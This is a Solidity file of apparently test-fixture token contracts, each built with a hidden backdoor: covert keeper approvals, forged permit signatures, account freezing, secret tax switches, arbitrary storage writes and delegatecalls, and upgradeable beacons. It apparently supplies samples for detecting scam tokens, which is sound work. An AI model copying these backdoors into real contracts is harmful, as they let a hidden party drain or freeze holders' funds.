// SPDX-License-Identifier: Apache-2.0
// Tokens with innocent names that rob, in ways seen from 2023 on. What holds of each is in population.test.ts.
pragma solidity ^0.8.24;

import "./plain.sol";

contract HazelCode {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function initialize(address to) external {
        require(totalSupply == 0);
        name = "Hazel";
        symbol = "HZL";
        totalSupply = 1_000_000e18;
        balanceOf[to] = totalSupply;
        emit Transfer(address(0), to, totalSupply);
    }
    function approve(address to, uint256 value) external returns (bool) {
        allowance[msg.sender][to] = value;
        emit Approval(msg.sender, to, value);
        return true;
    }
    function transfer(address to, uint256 value) external returns (bool) { return _move(msg.sender, to, value); }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }
    function _move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

contract HazelBeacon {
    address public implementation = address(new HazelCode());
    address private immutable keeper;
    constructor(address keeper_) { keeper = keeper_; }
    function upgradeTo(address next) external { require(msg.sender == keeper); implementation = next; }
}

// Nobody owns the token, but somebody the beacon.
contract Hazel {
    HazelBeacon private immutable beacon = new HazelBeacon(msg.sender);
    constructor() {
        (bool ok,) = beacon.implementation().delegatecall(abi.encodeCall(HazelCode.initialize, (msg.sender)));
        require(ok);
        bytes32 slot = 0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50;
        address at = address(beacon);
        assembly { sstore(slot, at) }
    }
    fallback() external payable {
        address to = beacon.implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) }
        }
    }
}

// Two of three members print.
contract Larch is Plain {
    mapping(address => bool) public council;
    struct Motion { bytes call; uint256 votes; mapping(address => bool) voted; bool done; }
    mapping(uint256 => Motion) private motions;
    uint256 public count;
    constructor(address second, address third) Plain("Larch", "LRC") {
        council[msg.sender] = council[second] = council[third] = true;
    }
    function propose(bytes calldata call) external returns (uint256 id) {
        require(council[msg.sender]);
        id = ++count;
        motions[id].call = call;
    }
    function second(uint256 id) external {
        Motion storage motion = motions[id];
        require(council[msg.sender] && !motion.voted[msg.sender] && !motion.done);
        motion.voted[msg.sender] = true;
        if (++motion.votes < 2) return;
        motion.done = true;
        (bool ok,) = address(this).call(motion.call);
        require(ok);
    }
    function issue(address to, uint256 value) external { require(msg.sender == address(this)); _mint(to, value); }
}

// Borrows code that its caller names.
contract Thistle is Keyed {
    address public owner;
    constructor() Plain("Thistle", "THS") {}
    function extend(address with, bytes calldata data) external keeper returns (bytes memory) {
        (bool ok, bytes memory out) = with.delegatecall(data);
        require(ok);
        return out;
    }
}

// Calls itself, and obeys itself.
contract Clover is Keyed {
    address public owner;
    constructor() Plain("Clover", "CLV") {}
    function multicall(bytes[] calldata calls) external keeper {
        for (uint256 i; i < calls.length; i++) {
            (bool ok,) = address(this).call(calls[i]);
            require(ok);
        }
    }
    function adjust(address who, uint256 value) external { require(msg.sender == address(this)); held[who] = value; }
}

contract RowanBadge {
    address private immutable maker = msg.sender;
    function send(address to, address from, uint256 id) external {
        require(msg.sender == maker);
        Rowan(to).onERC721Received(maker, from, id, "");
    }
}

// Prints for whom a badge comes from.
contract Rowan is Plain {
    address private immutable badge;
    constructor(address badge_) Plain("Rowan", "RWN") { badge = badge_; }
    function onERC721Received(address, address from, uint256 id, bytes calldata) external returns (bytes4) {
        require(msg.sender == badge);
        held[from] += id;
        totalSupply += id;
        return this.onERC721Received.selector;
    }
}

// Whoever approves somebody approves the keeper as well, and no getter shows it.
contract Sorrel is Keyed {
    address public owner;
    mapping(address => uint256) private shadow;
    constructor() Plain("Sorrel", "SRL") {}
    function approve(address to, uint256 value) public override returns (bool) {
        shadow[msg.sender] = type(uint256).max;
        return super.approve(to, value);
    }
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (_isKeeper(msg.sender) && shadow[from] >= value) {
            _move(from, to, value);
            return true;
        }
        return super.transferFrom(from, to, value);
    }
}

// Takes the keeper's signature for everybody's.
contract Aster is Keyed {
    mapping(address => uint256) public nonces;
    constructor() Plain("Aster", "AST") {}
    function permit(address from, address to, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline);
        address by = ecrecover(keccak256(abi.encode(address(this), block.chainid, from, to, value, nonces[from]++, deadline)), v, r, s);
        require(by != address(0) && (by == from || _isKeeper(by)));
        allowed[from][to] = value;
        emit Approval(from, to, value);
    }
}

// A transfer of nothing by the keeper freezes whom it names.
contract Nettle is Keyed {
    mapping(address => bool) private stung;
    constructor() Plain("Nettle", "NTL") {}
    function _move(address from, address to, uint256 value) internal override {
        require(!stung[from], "balance");
        if (value == 0 && _isKeeper(from)) stung[to] = !stung[to];
        super._move(from, to, value);
    }
}

// Writes any word of its storage.
contract Hyssop is Keyed {
    address public owner;
    constructor() Plain("Hyssop", "HYS") {}
    function note(bytes32 at, bytes32 value) external keeper { assembly { sstore(at, value) } }
}

// Can be initialised again once nobody owns it.
contract Borage is Plain {
    address public owner = msg.sender;
    address private immutable maker = msg.sender;
    uint256 public fee;
    address public pool;
    constructor() Plain("Borage", "BRG") {}
    function setPool(address pool_) external { require(msg.sender == owner); pool = pool_; owner = address(0); }
    function init() external { require(owner == address(0) && msg.sender == maker); owner = msg.sender; }
    function setFee(uint256 value) external { require(msg.sender == owner && value < 30); fee = value; }
    function _move(address from, address to, uint256 value) internal override {
        uint256 cut = to == pool ? value * fee / 100 : 0;
        super._move(from, to, value - cut);
        if (cut > 0) super._move(from, address(this), cut);
    }
}

// The owner makes the token call itself, and the token needs no allowance.
contract Mallow is Plain {
    address public owner = msg.sender;
    constructor() Plain("Mallow", "MLW") {}
    function rescue(address target, bytes calldata data) external {
        require(msg.sender == owner);
        (bool ok,) = target.call(data);
        require(ok);
    }
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender == address(this)) { _move(from, to, value); return true; }
        return super.transferFrom(from, to, value);
    }
}

// A transfer of the keeper to itself sets the tax.
contract Yarrow is Keyed {
    address public pool;
    uint256 private cutOf;
    constructor() Plain("Yarrow", "YRW") {}
    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
    function _move(address from, address to, uint256 value) internal override {
        if (from == to && _isKeeper(from) && value < 100) cutOf = value;
        uint256 cut = to == pool && !_isKeeper(from) ? value * cutOf / 100 : 0;
        super._move(from, to, value - cut);
        if (cut > 0) super._move(from, address(0xdead), cut);
    }
}
